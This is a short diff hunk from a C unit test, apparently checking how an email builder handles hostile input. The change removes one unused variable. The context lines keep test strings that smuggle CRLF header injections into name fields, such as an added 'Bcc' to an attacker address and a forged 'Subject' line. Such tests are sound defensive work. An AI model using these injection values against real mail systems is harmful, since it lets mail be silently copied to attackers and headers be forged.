@@ -817,7 +817,7 @@ test_eml_hostile (Fixture *f, gconstpointer data)
       const char *pm_name = round == 0 ? "Ana\r\nBcc: evil@attacker.example\r\n\r\nInjected body" : long_name;
       g_autoptr(GBytes) bytes = NULL;
       g_autoptr(GMimeMessage) message = NULL;
-      g_autofree char *from = NULL, *bcc = NULL, *names = NULL, *expected_from = NULL, *expected_subject = NULL;
+      g_autofree char *from = NULL, *bcc = NULL, *names = NULL, *expected_from = NULL;
       g_autofree char *clean_name = NULL;
       const char *project_name = "Billing \"4.2\" <upgrade>\r\nX-Evil: 1\nSubject: hijack, déjà vu 升级";
 
